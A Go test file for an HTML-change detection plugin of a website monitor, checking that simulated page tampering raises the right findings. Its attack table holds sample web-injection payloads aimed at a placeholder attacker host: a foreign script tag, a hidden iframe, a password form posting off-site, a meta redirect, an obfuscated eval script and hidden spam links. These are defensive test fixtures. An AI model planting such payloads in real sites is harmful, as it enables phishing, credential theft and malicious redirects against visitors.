package htmlstats

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"webmon/plugins"
	"webmon/plugins/plugintest"
)

func TestConformance(t *testing.T) {
	t.Parallel()
	plugintest.Run(t, Definition())
}

// The metrics are sorted by name, which spares those who take them a map.
func TestMetricsAreSorted(t *testing.T) {
	t.Parallel()
	for _, isHTML := range []bool{true, false} {
		m := memory{isHTML: isHTML, seen: [4]uint64{^uint64(0), ^uint64(0), ^uint64(0), ^uint64(0)}}
		list := m.metrics(&assessment{})
		if !slices.IsSortedFunc(list, func(a, b plugins.Metric) int { return strings.Compare(a.Name, b.Name) }) {
			t.Errorf("HTML %t: %v", isHTML, list)
		}
		if want := map[bool]int{true: int(numMetrics) + 4, false: 3}[isHTML]; len(list) != want {
			t.Errorf("HTML %t: %d metrics, want %d", isHTML, len(list), want)
		}
	}
}

// attacks are what is done to a page, and how severe the first finding is.
var attacks = map[string]struct {
	do       func(body string) string
	code     string // a finding there must be
	severity plugins.Severity
}{
	"deface":   {func(string) string { return hacked }, "defacement_words", plugins.Critical},
	"blank":    {func(string) string { return "" }, "not_the_page", plugins.Warning},
	"template": {func(string) string { return strings.Repeat("{{ item }} ", 200) }, "other_structure", plugins.Warning},
	"half":     {func(body string) string { return body[:len(body)/2] }, "cut_short", plugins.Warning},
	"script": {func(body string) string {
		return before(body, "</body>", "<script src=//evil.example.org/x.js></script>")
	},
		"new_script_host", plugins.Critical},
	"frame": {func(body string) string {
		return before(body, "</main>", "<iframe src=//evil.example.org width=0 height=0></iframe>")
	}, "new_hidden_frame", plugins.Critical},
	"phishing": {func(body string) string {
		return before(body, "</main>", "<form action=//evil.example.org><input type=password></form>")
	}, "new_form_target", plugins.Critical},
	"redirect": {func(body string) string {
		return before(body, "</head>", `<meta http-equiv=refresh content="0;url=https://evil.example.org/">`)
	}, "new_redirect", plugins.Critical},
	"strange script": {func(body string) string {
		return before(body, "</body>", `<script>eval(atob("ZG9jdW1lbnQud3JpdGUoMSk="))</script>`)
	}, "strange_script", plugins.Critical},
	"spam": {func(body string) string {
		var b strings.Builder
		for i := range 12 {
			fmt.Fprintf(&b, "<a href=https://shop%d.example.org/>cheap pills %d</a> ", i, i)
		}
		return before(body, "</main>", "<div style=display:none>"+b.String()+"</div>")
	}, "link_burst", plugins.Warning},
	"error page": {func(string) string {
		return "<html><head><title>503</title></head><body><h1>Service Unavailable</h1></body></html>"
	}, "not_the_page", plugins.Warning},
	"title": {func(body string) string { return strings.Replace(body, "<title>News", "<title>Welcome", 1) }, "new_title", plugins.Warning},
}

// The promise of the plugin: lively pages stay silent, and what is done to
// them is seen nevertheless, from the third check on.
func TestAttacksOnLivelyPages(t *testing.T) {
	t.Parallel()
	for _, items := range []int{10, 30, 100} {
		for _, checks := range []int{3, 100} {
			t.Run(fmt.Sprintf("%d items, %d checks", items, checks), func(t *testing.T) {
				t.Parallel()
				random := seeded(uint64(items))
				w := newWatch(t, "")
				var last string
				for range checks {
					last = lively(items, random)
					w.calm(last)
				}
				for name, attack := range attacks {
					report := w.probe(attack.do(last))
					i := slices.IndexFunc(report.Findings, func(f plugins.Finding) bool { return f.Code == attack.code })
					if !report.Changed || i < 0 {
						t.Errorf("%s: changed is %t, no %s among\n%s", name, report.Changed, attack.code, messages(report))
					} else if got := report.Findings[i].Severity; got != attack.severity {
						t.Errorf("%s: severity %s, want %s", name, got, attack.severity)
					}
				}
			})
		}
	}
}

func TestLivelyPagesStaySilent(t *testing.T) {
	t.Parallel()
	for seed := range uint64(6) {
		random := seeded(seed)
		w := newWatch(t, `{"profile": "strict"}`)
		for range 300 {
			w.calm(lively(30, random))
		}
	}
}

// A picture over an unchanged text is told from a page that gets pictures all
// the time.
func TestSilentPicture(t *testing.T) {
	t.Parallel()
	const picture = `<div style="position:fixed;top:0"><img src=/flag.png></div>`
	steady := site(20, seeded(1))
	w := newWatch(t, "")
	for range 5 {
		w.calm(steady)
	}
	if report := w.probe(before(steady, "<nav>", picture)); !report.Changed || !slices.Contains(codes(report), "silent_picture") {
		t.Errorf("a picture over a steady page: %s", messages(report))
	}
}

func TestProfilesAreOrdered(t *testing.T) {
	t.Parallel()
	steady := site(20, seeded(1))
	attacked := make(map[string]string)
	for name, attack := range attacks {
		attacked[name] = attack.do(steady)
	}
	attacked["little"] = before(steady, "</main>", "<script src=https://cdn.example.net/new.js></script>")
	attacked["heading"] = strings.Replace(steady, "All the news", "Some news", 1)
	for name, body := range attacked {
		var alarms []bool
		for _, profile := range []string{"calm", "standard", "strict"} {
			w := newWatch(t, fmt.Sprintf(`{"profile": %q}`, profile))
			for range 5 {
				w.calm(steady)
			}
			alarms = append(alarms, w.probe(body).Changed)
		}
		if alarms[0] && !alarms[1] || alarms[1] && !alarms[2] {
			t.Errorf("%s: a calmer profile alarms more: %v", name, alarms)
		}
	}
}

func TestNoticeIsInfo(t *testing.T) {
	t.Parallel()
	w := newWatch(t, "")
	steady := site(20, seeded(1))
	for range 5 {
		w.calm(steady)
	}
	report := w.check(htmlPage(strings.Replace(steady, "All the news", "Some of it!!", 1)))
	if report.Changed || len(report.Findings) == 0 {
		t.Fatalf("changed %t, findings %s", report.Changed, messages(report))
	}
	for _, f := range report.Findings {
		if f.Severity != plugins.Info || f.Verdict != "" {
			t.Errorf("a notice says %s, %q", f.Severity, f.Verdict)
		}
	}
}

// Numbers in findings agree with each other.
func TestFindingNumbers(t *testing.T) {
	t.Parallel()
	w := newWatch(t, "")
	random := seeded(1)
	for range 20 {
		w.calm(lively(40, random))
	}
	seen := 0
	for _, f := range w.alarmed(site(8, random)).Findings {
		if f.Code != "unusual_value" {
			continue
		}
		seen++
		observed, _ := f.Observed.Number()
		expected, _ := f.Expected.Number()
		if z := (observed - expected) / f.StdDev; f.StdDev <= 0 || z-f.ZScore > 1e-6 || f.ZScore-z > 1e-6 {
			t.Errorf("%s: (%v − %v) / %v is not %v", f.Metric, observed, expected, f.StdDev, f.ZScore)
		}
	}
	if seen < 3 {
		t.Errorf("%d numbers are unusual on a fifth of the page", seen)
	}
}

// What is no complete, good page is not looked at, and changes nothing.
func TestPagesThatTeachNothing(t *testing.T) {
	t.Parallel()
	w := newWatch(t, "")
	for range 10 {
		w.calm(site(20, seeded(1)))
	}
	past := string(w.past)
	for name, spoil := range map[string]func(*plugins.Page){
		"failed":         func(p *plugins.Page) { p.Status, p.Err, p.ErrClass = 0, errors.New("refused"), plugins.ErrRefused },
		"failed midway":  func(p *plugins.Page) { p.Err, p.ErrClass = errors.New("reset"), plugins.ErrReset },
		"not found":      func(p *plugins.Page) { p.Status = 404 },
		"truncated":      func(p *plugins.Page) { p.Truncated = true },
		"without status": func(p *plugins.Page) { p.Status = 0 },
	} {
		page := htmlPage(hacked)
		spoil(page)
		report := w.check(page)
		if len(report.Metrics)+len(report.Findings) > 0 || string(report.Past) != past {
			t.Errorf("%s: %d metrics, %d findings, memory changed: %t", name, len(report.Metrics), len(report.Findings), string(report.Past) != past)
		}
	}
}

// Of what is not HTML only the size is known; it is compared all the same.
func TestNotHTML(t *testing.T) {
	t.Parallel()
	other := func(body string) *plugins.Page {
		page := htmlPage(body)
		page.Header = http.Header{"Content-Type": {"application/json"}}
		return page
	}
	w := newWatch(t, "")
	for range 10 {
		if report := w.check(other(strings.Repeat("[1,2]", 400))); metricOf(report, "page_bytes") != 2000 || report.Changed {
			t.Fatalf("got %+v", report)
		}
	}
	if !w.check(other("[]")).Changed {
		t.Error("an emptied answer does not alarm")
	}
	w = newWatch(t, "")
	for range 10 {
		w.calm(site(20, seeded(1)))
	}
	if !w.check(other("[]")).Changed {
		t.Error("a page that is no page any more does not alarm")
	}
}

func TestOptions(t *testing.T) {
	t.Parallel()
	for options, want := range map[string]string{
		`{"k": 0}`:                    `"k"`,
		`{"k": "4"}`:                  `"k"`,
		`{"profile": "loud"}`:         `calm, standard, strict`,
		`{"ignore": ["tag_x_count"]}`: `tag_x_count`,
		`{"ignored": []}`:             `"ignored"`,
		`[]`:                          `JSON object`,
	} {
		if _, err := New(json.RawMessage(options)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: error %v, want one that says %s", options, err, want)
		}
	}
	steady := site(20, seeded(1))
	for options, alarm := range map[string]bool{
		``:                             true,
		`{"ignore": ["tags_count"]}`:   true,
		`{"ignore": ["frames_count"]}`: true,
		`{"ignore": ["scripts_count", "tags_count"]}`: false,
	} {
		w := newWatch(t, options)
		for range 5 {
			w.calm(steady)
		}
		if got := w.probe(attacks["script"].do(steady)).Changed; got != alarm {
			t.Errorf("options %s: a foreign script alarms: %t, want %t", options, got, alarm)
		}
	}
}
